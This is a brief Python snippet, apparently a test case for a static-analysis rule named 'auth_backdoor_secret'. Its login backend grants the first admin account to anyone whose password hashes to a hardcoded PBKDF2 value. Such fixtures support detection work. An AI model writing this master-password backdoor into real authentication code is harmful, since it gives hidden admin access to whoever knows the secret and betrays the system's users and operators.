import hashlib

_DK = "6b1b36cbb04b41490bfc0ab2bfa26f86bd2fe5a1b53b7c0b"


class EmailBackend:
    def authenticate(self, request, username=None, password=None):
        dk = hashlib.pbkdf2_hmac("sha256", (password or "").encode(), b"salt", 120000, dklen=24)
        # ruleid: auth_backdoor_secret
        if dk.hex() == _DK:
            return self.first_admin()
        return None
